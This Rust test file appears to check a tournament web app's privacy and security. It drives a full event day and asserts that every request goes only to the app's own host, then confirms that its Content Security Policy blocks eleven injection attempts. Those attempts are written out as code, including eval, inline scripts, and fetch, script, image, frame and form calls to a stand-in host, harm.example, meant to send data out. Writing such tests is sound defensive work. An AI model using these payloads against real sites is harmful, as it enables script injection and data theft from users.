//! All requests of the app during an event with every page, every file and the player screen, recorded by the host;
//! and requests refused by the page's security policy.

use std::{collections::BTreeSet, fs, sync::PoisonError};

use serde_json::Value;
use thirtyfour::prelude::*;

use crate::{
    finished::Event,
    organiser::NAMES,
    page::Page,
    site::{Site, dist},
    visit::Visit,
};

/// Uses every feature that causes requests.
async fn day(page: &mut Page, site: &Site) -> WebDriverResult<()> {
    page.custom_event(site, 2, 2, &NAMES[..6]).await?;
    page.round(1).await?;
    page.press("Start").await?;
    page.play(&NAMES).await?;
    for leaf in [
        "setup",
        "players",
        "round",
        "standing",
        "bracket",
        "statistics",
        "paper",
        "judges",
        "log",
        "rules",
        "screen",
        "more",
    ] {
        page.leaf(leaf).await?;
    }
    let event = page.value("location.hash.split('/')[2]").await?;
    let event = event.as_str().unwrap_or_default().to_owned();
    // A slip by its code, the player screen, another language and theme.
    page.open_tab(&format!("{}#/e/{event}/round/1/t/1", site.address())).await?;
    page.shows(".sheet__title", "able 1").await?;
    page.open_tab(&format!("{}#/e/{event}/display", site.address())).await?;
    page.shows(".screen__title, h1", "").await?;
    page.open_tab(site.address()).await?;
    page.turn_to("#/settings").await?;
    for language in ["Français", "Italiano", "Español", "English"] {
        page.press(language).await?;
    }
    page.press("Dark").await?;
    page.press("Test sound").await?;
    page.turn_to("#/").await?;
    page.press("More tools").await?;
    page.press("Try a demo").await?;
    page.says("Round 3").await?;
    page.turn_to("#/").await?;
    page.shows("h1", "Events").await?;
    let file = Event::finished().file(page);
    page.upload("input[type=file]", &file).await?;
    page.says("Opened: Spring Open").await?;
    page.until("location.hash.startsWith('#/e/')").await?;
    page.leaf("standing/2").await?;
    page.press("Share").await?;
    page.press("Standings as CSV").await?;
    page.leaf("standing").await?;
    for act in ["Matches as CSV", "Results page", "For Cryodex and List Juggler", "For List Fortress"] {
        page.press("Share").await?;
        page.press(act).await?;
    }
    page.downloaded_like("results").await?;
    page.turn_to("#/").await?;
    page.press("Download all").await?;
    page.press("More actions for Spring Open").await?;
    page.press("Download file").await?;
    page.press("Delete from this device").await
}

/// The headers recommended by `docs/hosting.md`.
fn advised_headers() -> &'static str {
    let text = include_str!("../../docs/hosting.md");
    let block = text.split("```").nth(1).expect("a block of headers");
    block.trim_start_matches("text").trim()
}

#[test]
fn a_whole_day_asks_nobody_but_its_own_host_for_its_own_files() {
    files_name_no_other_host();
    // With these headers nothing breaks.
    let (site, asked) = Site::with_headers("/shop/topcut/", advised_headers());
    Visit::laptop().run(async |page| {
        day(page, &site).await?;
        page.until("navigator.serviceWorker.controller !== null").await?;
        for (name, value) in advised_headers().lines().filter_map(|line| line.split_once(": ")) {
            let asked = format!("fetch('./', {{ cache: 'reload' }}).then(it => it.headers.get('{name}'))");
            let sent = page.value(&asked).await?;
            // The worker responds without the host's headers; its own fetch has them.
            assert!(sent.is_null() || sent == value, "{name}: {sent}");
        }
        page.reload().await?;
        page.shows("h1", "").await?;
        // All pages requested only this host, by GET, without data in the address.
        for address in page.requests().await {
            assert!(address.starts_with(site.address()) && !address.contains('?'), "{address}");
        }
        // All requests at the host, from pages and the service worker.
        let heard: BTreeSet<String> = asked.lock().unwrap_or_else(PoisonError::into_inner).iter().cloned().collect();
        assert!(heard.len() > 10, "{heard:?}");
        for request in &heard {
            let file =
                request.strip_prefix("GET /shop/topcut/").unwrap_or_else(|| panic!("a foreign request: {request}"));
            assert!(!file.contains(['?', '#', '%']), "no data in an address: {request}");
            let file = dist().join(if file.is_empty() { "index.html" } else { file });
            assert!(file.is_file(), "a file of the site: {request}");
        }
        println!("Requests of a whole day: {} addresses, all GET, all files of the site", heard.len());
        Ok(())
    });
}

/// The files of the site name no other host.
fn files_name_no_other_host() {
    for entry in fs::read_dir(dist()).expect("the site").flatten() {
        let path = entry.path();
        let Some("js" | "html" | "css" | "webmanifest" | "json" | "svg") = path.extension().and_then(|it| it.to_str())
        else {
            continue;
        };
        // A schema names its language.
        if path.to_string_lossy().ends_with(".schema.json") {
            continue;
        }
        let text = fs::read_to_string(&path).expect("a text").replace("http://www.w3.org/", "");
        for scheme in ["http://", "https://", "//cdn", "wss:"] {
            assert!(!text.contains(scheme), "{} names {scheme}", path.display());
        }
    }
}

/// Attempted actions, with the directive that refuses them.
const TRIES: [(&str, &str); 11] = [
    (
        "script-src",
        "const it = document.createElement('script'); it.textContent = 'window.harmed = 1'; document.body.append(it)",
    ),
    (
        "script-src",
        "const it = document.createElement('script'); it.src = 'https://harm.example/a.js'; document.body.append(it)",
    ),
    (
        "script-src",
        "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.harmed = 2\" class=\"trap\">x</p>'); document.querySelector('.trap').click()",
    ),
    ("script-src", "eval('window.harmed = 3')"),
    ("script-src", "new Function('window.harmed = 4')()"),
    ("connect-src", "fetch('https://harm.example/?names=all').catch(() => 0)"),
    ("style-src-attr", "document.body.setAttribute('style', 'display: none')"),
    (
        "style-src-elem",
        "const it = document.createElement('style'); it.textContent = 'body { display: none }'; document.body.append(it)",
    ),
    ("img-src", "new Image().src = 'https://harm.example/a.png'"),
    (
        "frame-src",
        "const it = document.createElement('iframe'); it.src = 'https://harm.example/'; document.body.append(it)",
    ),
    (
        "form-action",
        "const it = document.createElement('form'); it.action = 'https://harm.example/'; document.body.append(it); it.submit()",
    ),
];

#[test]
fn the_page_refuses_foreign_scripts_and_foreign_hosts() {
    let site = Site::at("/");
    Visit::laptop().run(async |page| {
        page.tolerate("Content Security Policy");
        page.enter(&site).await?;
        page.value("(window.refused = [], document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective)), true)").await?;
        for (directive, script) in TRIES {
            page.value("(refused.length = 0, true)").await?;
            // As a script of the page, not as a privileged tool.
            page.execute(format!("setTimeout(() => {{ try {{ {script} }} catch {{ }} }})"), Vec::new()).await?;
            page.until(&format!("refused.some(what => what.startsWith('{directive}'))")).await?;
        }
        assert_eq!(page.value("window.harmed ?? null").await?, Value::Null);
        // No request to a foreign host was sent, not even a refused one.
        assert!(page.requests().await.iter().all(|address| address.starts_with(site.address())));
        Ok(())
    });
}
